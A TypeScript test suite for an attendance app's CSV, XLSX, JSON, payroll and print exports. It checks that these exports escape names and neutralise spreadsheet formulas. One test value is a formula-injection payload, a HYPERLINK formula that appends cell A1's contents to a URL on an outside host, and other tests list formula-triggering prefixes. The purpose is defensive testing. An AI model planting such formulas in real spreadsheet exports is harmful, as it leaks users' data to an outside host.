import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { csvChunks, csvText, jsonChunks } from '../../main/attendance/csv.ts'
import { frappeCheckins, odooAttendances, type Tally } from '../../main/attendance/payroll.ts'
import { type PrintWords, printChunks } from '../../main/attendance/print.ts'
import { readRules } from '../../main/attendance/schedule.ts'
import { eventTable, type Table, timesheet, timesheetTable, totalsTable } from '../../main/attendance/table.ts'
import { timesheetDays } from '../../main/attendance/timesheet.ts'
import { xlsxChunks } from '../../main/attendance/xlsx.ts'
import { LocalDate } from '../../main/contract/attendance.ts'
import { PersonId } from '../../main/contract/entities.ts'
import { check, correction, local } from './build.ts'
import { rulesOf } from './examples/example.ts'

const attack = '=HYPERLINK("http://example.org?"&A1,"x")'
const events = [
  check(1, 'in', local('2026-05-04 09:00:07'), { person: { id: 1, name: 'Müller, "Ada"\nsecond line' } }),
  check(2, 'out', local('2026-05-04 17:30'), {
    person: { id: 1, name: attack },
    employeeNumber: '-12',
    similarity: -0.25,
  }),
  correction(3, 'void', 2, 'out', local('2026-05-04 17:30')),
]
const plan = readRules(rulesOf({ name: '', events: [], days: {} }))({ id: PersonId.parse(1), groups: [] })
const range = { from: LocalDate.parse('2026-05-04'), to: LocalDate.parse('2026-05-06') }
const person = { id: PersonId.parse(1), name: '佐藤 <b>', employeeNumber: '007' }
const sheet = timesheet(person, timesheetDays(plan, events.slice(0, 2), range, local('2026-06-01 00:00')))
const soffice = ['soffice', 'libreoffice'].find((name) => {
  try {
    execFileSync(name, ['--version'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
})

function csv(table: Table, bom = false): string {
  return [...csvChunks(table, { bom })].join('')
}

function xlsx(tables: readonly Table[]): Uint8Array {
  return Buffer.concat([...xlsxChunks(tables, { person: 'Person & name' }, Date.parse('2026-06-01T00:00Z'))])
}

/** The cells of a file's sheet, by LibreOffice. */
function convert(name: string, content: Uint8Array | string, options: readonly string[] = []): string[][] {
  const folder = mkdtempSync(join(tmpdir(), 'rollcall-export-'))
  try {
    writeFileSync(join(folder, name), content)
    const profile = `-env:UserInstallation=file://${folder}/profile`
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1'
    execFileSync(
      soffice!,
      [profile, '--headless', ...options, '--convert-to', filter, '--outdir', join(folder, 'out'), join(folder, name)],
      {
        stdio: 'ignore',
      },
    )
    const [file] = readdirSync(join(folder, 'out'))
    const text = readFileSync(join(folder, 'out', file!), 'utf8')
    return Papa.parse<string[]>(text.trim()).data
  } finally {
    rmSync(folder, { recursive: true })
  }
}

describe('CSV', () => {
  test('can be read back: commas, quotes, line breaks, local times with their offset', () => {
    const { data } = Papa.parse<Record<string, string>>(csv(eventTable('Events', events)), {
      header: true,
      skipEmptyLines: true,
    })
    expect(data).toHaveLength(3)
    expect(data[0]).toMatchObject({
      id: '1',
      person: 'Müller, "Ada"\nsecond line',
      time: '2026-05-04T09:00:07+02:00',
      clock_moved: 'false',
    })
    expect(data[2]).toMatchObject({
      kind: 'correction',
      corrects: '2',
      action: 'void',
      actor: 'manager',
      similarity: '',
    })
  })

  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＠x'])('neutralises %j', (text) => {
    expect(Papa.parse<string[]>(csvText(text), { delimiter: ',' }).data[0]![0]).toBe(`'${text}`)
  })

  test('leaves numbers and ordinary text alone', () => {
    const { data } = Papa.parse<Record<string, string>>(csv(eventTable('Events', events)), { header: true })
    expect(data[1]).toMatchObject({ person: `'${attack}`, employee_number: "'-12", similarity: '-0.25' })
    expect(csvText('a=b')).toBe('a=b')
  })

  test('has the mark only when it is asked for', () => {
    const table = () => eventTable('Events', [])
    expect(csv(table(), true).codePointAt(0)).toBe(0xfeff)
    expect(csv(table(), false).startsWith('id,kind,person,')).toBe(true)
  })

  test('the days of a timesheet add up to its row of sums', () => {
    const read = (table: Table) =>
      Papa.parse<Record<string, string>>(csv(table), { header: true, skipEmptyLines: true }).data
    const days = read(timesheetTable('Days', [sheet]))
    const [sums] = read(totalsTable('Sums', [sheet]))
    expect(days.map(({ date, worked_minutes, status }) => [date, worked_minutes, status])).toEqual([
      ['2026-05-04', '510', 'worked'],
      ['2026-05-05', '0', 'absent'],
      ['2026-05-06', '0', 'absent'],
    ])
    expect(sums).toMatchObject({
      worked_minutes: '510',
      expected_minutes: '1440',
      absent_minutes: '960',
      overtime_minutes: '30',
    })
  })
})

test('JSON is one array of the same columns', () => {
  const parsed = JSON.parse([...jsonChunks(eventTable('Events', events))].join(''))
  expect(parsed).toHaveLength(3)
  expect(parsed[1]).toMatchObject({
    person: attack,
    time: '2026-05-04T17:30:00+02:00',
    similarity: -0.25,
    corrects: null,
  })
  expect(JSON.parse([...jsonChunks(eventTable('Events', []))].join(''))).toEqual([])
})

describe('XLSX', () => {
  test('names its sheets lawfully and each differently', () => {
    const table = (name: string): Table => ({ name, columns: [{ key: 'a', kind: 'text' }], rows: [['x']] })
    const files = unzipSync(xlsx([table('A/B:C'), table('a b c'), table('x'.repeat(40)), table('x'.repeat(40))]))
    const workbook = new TextDecoder().decode(files['xl/workbook.xml'])
    const names = [...workbook.matchAll(/sheet name="([^"]*)"/g)].map((match) => match[1])
    expect(names).toEqual(['A B C', 'a b c (2)', 'x'.repeat(31), `${'x'.repeat(27)} (2)`])
  })

  test('holds no formula and no character that XML can not hold', () => {
    const rows = [[attack], ['a\u0000\u0008b\uD800\uFFFF<&>"']]
    const files = unzipSync(xlsx([{ name: 'T', columns: [{ key: 'person', kind: 'text' }], rows }]))
    const xml = new TextDecoder().decode(files['xl/worksheets/sheet1.xml'])
    expect(xml).not.toContain('<f>')
    expect(xml).toContain('>ab\uFFFD&lt;&amp;&gt;&quot;</t>')
    expect(xml).toContain('>Person &amp; name</t>')
  })

  test.skipIf(!soffice)('opens in LibreOffice with the right cells', { timeout: 120_000 }, () => {
    const eventRows = convert('events.xlsx', xlsx([eventTable('Events', events)]))
    const head = eventRows[0]!
    const cell = (row: number, title: string) => eventRows[row]![head.indexOf(title)]
    expect(cell(1, 'Person & name')).toBe('Müller, "Ada"\nsecond line')
    expect(cell(1, 'time')).toBe('2026-05-04 09:00:07')
    expect(cell(2, 'Person & name')).toBe(attack)
    expect(cell(2, 'employee_number')).toBe('-12')
    expect(cell(2, 'similarity')).toBe('-0.25')
    expect(cell(3, 'action')).toBe('void')
    const dayRows = convert('days.xlsx', xlsx([timesheetTable('Days', [sheet])]))
    const days = dayRows.map((row) =>
      ['employee_number', 'date', 'worked_minutes', 'first_in'].map((title) => row[dayRows[0]!.indexOf(title)]),
    )
    expect(days.slice(1)).toEqual([
      ['007', '2026-05-04', '8:30', '2026-05-04 09:00:07'],
      ['007', '2026-05-05', '0:00', ''],
      ['007', '2026-05-06', '0:00', ''],
    ])
  })

  test.skipIf(!soffice)('the CSV opens there too, and its formula is text', { timeout: 120_000 }, () => {
    const rows = convert('events.csv', csv(eventTable('Events', events), true), ['--infilter=CSV:44,34,76,1'])
    expect(rows[2]![rows[0]!.indexOf('person')]).toContain('=HYPERLINK(')
  })
})

function fileOf(write: (tally: Tally) => Iterable<string>) {
  const tally = { rows: 0, skipped: 0 }
  return { text: [...write(tally)].join(''), ...tally }
}

describe('payroll', () => {
  test('Frappe HR gets what stands after corrections, in local time', () => {
    const moved = [
      check(1, 'in', local('2026-05-04 09:00:07')),
      check(2, 'out', local('2026-05-04 17:30')),
      correction(3, 'move', 2, 'out', local('2026-05-04 17:00')),
    ]
    const nobody = [check(4, 'in', local('2026-05-04 09:00'), { employeeNumber: null })]
    const may = { from: local('2026-05-01 00:00'), to: local('2026-06-01 00:00') }
    const elsewhere = [
      check(5, 'in', local('2026-04-30 09:00')),
      correction(6, 'move', 5, 'in', local('2026-05-01 09:00')),
      check(7, 'in', local('2026-06-01 00:00')),
    ]
    const file = fileOf((tally) => frappeCheckins([moved, nobody, elsewhere], may, tally))
    expect(file).toEqual({
      text:
        'Employee,Log Type,Time,Location / Device ID\r\n' +
        'E1,IN,2026-05-04 09:00:07,Front door\r\nE1,OUT,2026-05-04 17:00:00,Front door\r\n' +
        'E1,IN,2026-05-01 09:00:00,Front door\r\n',
      rows: 3,
      skipped: 1,
    })
  })

  test('Odoo gets whole sessions only, by name or by external ID', () => {
    const open = [...events.slice(0, 2), check(9, 'in', local('2026-05-05 09:00'))]
    const days = timesheetDays(plan, open, range, local('2026-06-01 00:00'))
    const sheets = [timesheet(person, days)]
    const file = fileOf((tally) => odooAttendances(sheets, 'Europe/Berlin', 'external-id', tally))
    expect(file).toEqual({
      text: 'employee_id/id,check_in,check_out\r\n007,2026-05-04 09:00:07,2026-05-04 17:30:00\r\n',
      rows: 1,
      skipped: 1,
    })
    const named = fileOf((tally) => odooAttendances(sheets, 'Europe/Berlin', 'name', tally))
    expect(named.text).toContain('佐藤 <b>,2026')
  })

  test('names and numbers reach payroll as they are, quoted but without an apostrophe', () => {
    const who = { employeeNumber: '-77,"A"', kiosk: '@Door' }
    const entries = [check(1, 'in', local('2026-05-04 09:00'), who), check(2, 'out', local('2026-05-04 10:00'), who)]
    const may = { from: local('2026-05-01 00:00'), to: local('2026-06-01 00:00') }
    const checkins = fileOf((tally) => frappeCheckins([entries], may, tally))
    expect(checkins.text).toContain('\r\n"-77,""A""",IN,2026-05-04 09:00:00,@Door\r\n')
    const days = timesheetDays(plan, entries, range, local('2026-06-01 00:00'))
    const sheets = [timesheet({ ...person, name: '=Li', employeeNumber: who.employeeNumber }, days)]
    const byName = fileOf((tally) => odooAttendances(sheets, 'Europe/Berlin', 'name', tally))
    expect(byName.text).toContain('\r\n=Li,2026')
    const byId = fileOf((tally) => odooAttendances(sheets, 'Europe/Berlin', 'external-id', tally))
    expect(byId.text).toContain('\r\n"-77,""A""",2026')
  })
})

test('the printed page escapes names, marks corrections and shows the sums', () => {
  const words: PrintWords = {
    title: 'Timesheet',
    period: 'Period',
    date: 'Date',
    sessions: 'Sessions',
    expected: 'Expected',
    worked: 'Worked',
    late: 'Late',
    early: 'Early',
    overtime: 'Overtime',
    remarks: 'Remarks',
    total: 'Total',
    signature: 'Signature',
    remark: { absent: 'Absent', corrected: 'Corrected' },
  }
  const corrected = [events[0]!, correction(5, 'add', null, 'out', local('2026-05-04 17:00'))]
  const days = timesheetDays(plan, corrected, range, local('2026-06-01 00:00'))
  const page = [...printChunks([timesheet(person, days)], words, 'en')].join('')
  expect(page).toContain('佐藤 &lt;b&gt; (007)')
  expect(page).toContain('<td>09:00–17:00*</td><td class="n">8:00</td><td class="n">8:00</td>')
  expect(page).toContain('<td>Corrected</td>')
  expect(page).toContain('<td>Total</td><td></td><td class="n">24:00</td><td class="n">8:00</td>')
  expect(page).not.toMatch(/<script|https?:/)
})

test('a long export takes no more memory than a short one', () => {
  let alive = 0
  let most = 0
  function* rows(count: number) {
    for (let index = 0; index < count; index++) {
      alive += 1
      yield [`Person ${index}`, index]
    }
  }
  const columns = [
    { key: 'person', kind: 'text' },
    { key: 'id', kind: 'number' },
  ] as const
  let bytes = 0
  for (const chunk of xlsxChunks([{ name: 'Long', columns, rows: rows(100_000) }], {}, events[0]!.at)) {
    bytes += chunk.length
    most = Math.max(most, alive)
    alive = 0
  }
  // Pieces leave while rows are still being read: never more than a few thousand rows are on the way.
  expect(bytes).toBeGreaterThan(500_000)
  expect(most).toBeLessThan(10_000)
})
